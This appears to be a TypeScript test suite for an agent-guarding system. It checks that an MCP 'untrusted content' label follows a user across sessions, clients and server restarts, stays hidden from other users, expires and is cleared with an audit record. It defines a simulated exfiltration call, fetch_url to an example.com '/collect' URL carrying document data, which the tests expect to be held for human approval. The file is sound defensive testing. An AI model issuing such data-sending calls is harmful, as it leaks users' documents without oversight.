import type { Server } from 'node:http';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { Duration } from 'aws-cdk-lib';
import { afterAll, describe, expect, it } from 'vitest';
import type { AuditRecord } from '#shared/audit/index.ts';
import { startDemoSystem } from '../../../infra/local/demo-app.ts';
import { createApiServer, listen } from '../../../infra/local/http-server.ts';
import { loadLocalUsers } from '../../../infra/local/local-users.ts';
import { until, useLocalServer } from '../../support/local-server.ts';

// Over MCP the label follows the user, not the session: the model's context, which holds what it
// read, outlives a session (a reconnect, a restart, a second client). Through the HTTP transport
// with the official SDK, as a client uses npm start.
const world = useLocalServer({
  extraUsers: [
    { token: 'local-operator-2-token', userId: 'otto', groups: ['operator'] },
    { token: 'local-operator-3-token', userId: 'oona', groups: ['operator'] },
    { token: 'local-operator-4-token', userId: 'oren', groups: ['operator'] },
  ],
});
const read = { name: 'read_document', arguments: { path: 'guides/returns-guide.md' } };
const leak = { name: 'fetch_url', arguments: { url: 'https://example.com/collect?d=returns-guide' } };
type Structured = { status?: string; ok?: boolean; error?: { code: string } };
const statusOf = async (client: Client, call: { name: string; arguments: Record<string, unknown> }) =>
  (await client.callTool(call)).structuredContent as Structured;
/** A new MCP session (a new `initialize`) for a user, as a reconnecting or second client opens one. */
const session = (token: string, base = world.base) => mcpSession(base, token);
const mcpSession = async (base: string, token: string) => {
  const transport = new StreamableHTTPClientTransport(new URL('/mcp', base), {
    requestInit: { headers: { authorization: `Bearer ${token}` } },
  });
  const client = new Client({ name: 'label-test', version: '1.0.0' });
  await client.connect(transport);
  return { client, id: transport.sessionId as string, close: () => client.close() };
};
/** What a sink's call did: parked for approval, or sent to its function (which cannot reach the internet here). */
const sinkOutcome = async (client: Client) => {
  const answer = await statusOf(client, leak);
  return answer.status === 'awaiting_approval' ? 'parked' : `ran:${answer.error?.code ?? 'ok'}`;
};

describe('the MCP label follows the user', () => {
  it('carries into a new session of the same user, and into a second client of theirs at the same time', async () => {
    const token = 'local-operator-2-token';
    const a = await session(token);
    const second = await session(token);
    try {
      expect(await statusOf(a.client, read)).toMatchObject({ ok: true });
      expect(await sinkOutcome(a.client)).toBe('parked');
      // The same client reconnects: a new initialize, a new session.
      const b = await session(token);
      expect(b.id).not.toBe(a.id);
      expect(await sinkOutcome(b.client)).toBe('parked');
      await b.close();
      // A second client of the same user, opened before the read: it carries the label too.
      expect(await sinkOutcome(second.client)).toBe('parked');
      // The pending approvals say why.
      const pending = (await world.api('GET', '/approvals?status=pending', world.tokenOfRole('approver'))).body.approvals as Array<{
        tool: string;
        requestedBy: string;
        why?: string;
      }>;
      expect(pending.filter((p) => p.requestedBy === 'otto' && p.tool === 'fetch_url')).toHaveLength(3);
      expect(pending.find((p) => p.requestedBy === 'otto')?.why).toMatch(/read_document/);
    } finally {
      await a.close();
      await second.close();
    }
  });

  it('never reaches another user', async () => {
    const marked = await session('local-operator-3-token');
    const other = await session('local-operator-4-token');
    try {
      expect(await statusOf(marked.client, read)).toMatchObject({ ok: true });
      expect(await sinkOutcome(marked.client)).toBe('parked');
      // oren read nothing: his sink's call goes to its function (here it cannot reach the network).
      expect(await sinkOutcome(other.client)).toMatch(/^ran:/);
      expect((await world.api('GET', '/users/oren/mcp-label', 'local-operator-4-token')).body).toEqual({ userId: 'oren', label: null });
    } finally {
      await marked.close();
      await other.close();
    }
  });

  it('is cleared by the user themself (or an admin), never by another user; the clearing is audited', async () => {
    const token = 'local-operator-token';
    const a = await session(token);
    try {
      expect(await statusOf(a.client, read)).toMatchObject({ ok: true });
      const shown = (await world.api('GET', '/users/olga/mcp-label', token)).body as { label: Record<string, string> };
      expect(shown.label).toMatchObject({ tool: 'read_document', session: `mcp-${a.id}` });
      expect(Date.parse(shown.label.expiresAt ?? '') - Date.parse(shown.label.since ?? '')).toBeGreaterThanOrEqual(23 * 3600 * 1000);
      // Another user may neither see nor clear it; an admin may see it.
      expect((await world.api('GET', '/users/olga/mcp-label', 'local-operator-3-token')).status).toBe(403);
      expect((await world.api('DELETE', '/users/olga/mcp-label', 'local-operator-3-token')).status).toBe(403);
      expect((await world.api('GET', '/users/olga/mcp-label', world.tokenOfRole('admin'))).body).toMatchObject({
        label: { tool: 'read_document' },
      });
      expect(await world.api('DELETE', '/users/olga/mcp-label', token)).toMatchObject({
        status: 200,
        body: { userId: 'olga', cleared: { tool: 'read_document' } },
      });
      // Cleared: a new session's sink call goes to its function again.
      const b = await session(token);
      expect(await sinkOutcome(b.client)).toMatch(/^ran:/);
      await b.close();
      const records = (await world.api('GET', '/audit?since=1h', world.tokenOfRole('admin'))).body.records as AuditRecord[];
      expect(records.filter((r) => r.status === 'label-cleared')).toEqual([
        expect.objectContaining({
          runId: 'mcp-label.olga',
          userId: 'olga',
          tool: 'read_document',
          untrustedFrom: expect.stringMatching(/^read_document /),
        }),
      ]);
    } finally {
      await a.close();
    }
  });
});

describe('the MCP label lasts its lifetime', () => {
  const short = useLocalServer({ stack: { mcpLabelLifetime: Duration.seconds(2) } });
  it('lapses after mcpLabelLifetime (then a sink call runs without a person), and not before', async () => {
    const token = 'local-operator-token';
    const a = await mcpSession(short.base, token);
    try {
      expect(((await a.client.callTool(read)).structuredContent as Structured).ok).toBe(true);
      expect(((await a.client.callTool(leak)).structuredContent as Structured).status).toBe('awaiting_approval');
      // Wait for the state asserted on: the label gone, as the API reads it.
      await until(async () => ((await short.api('GET', '/users/olga/mcp-label', token)).body.label === null ? true : undefined), 15_000);
      const b = await mcpSession(short.base, token);
      expect(((await b.client.callTool(leak)).structuredContent as Structured).status).not.toBe('awaiting_approval');
      await b.close();
    } finally {
      await a.close();
    }
  });
});

describe('the MCP label across a restart (DATA_DIR)', () => {
  const folders: string[] = [];
  afterAll(async () => Promise.all(folders.map((f) => rm(f, { recursive: true, force: true }))));
  const serve = async (dataDir: string) => {
    const users = loadLocalUsers();
    const system = await startDemoSystem({ dataDir, users });
    const server: Server = createApiServer(system.deps, users);
    const base = `http://127.0.0.1:${await listen(server, 0)}`;
    return {
      base,
      stop: async () => {
        await new Promise<void>((resolve) => server.close(() => resolve()));
        await system.stop();
      },
    };
  };

  it('carries the label into a session opened after the server restarts', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'guarded-agents-label-'));
    folders.push(dir);
    const first = await serve(dir);
    const a = await mcpSession(first.base, 'local-operator-token');
    expect(((await a.client.callTool(read)).structuredContent as Structured).ok).toBe(true);
    await a.close();
    await first.stop();

    const second = await serve(dir);
    try {
      const b = await mcpSession(second.base, 'local-operator-token');
      expect(((await b.client.callTool(leak)).structuredContent as Structured).status).toBe('awaiting_approval');
      await b.close();
    } finally {
      await second.stop();
    }
  });
});
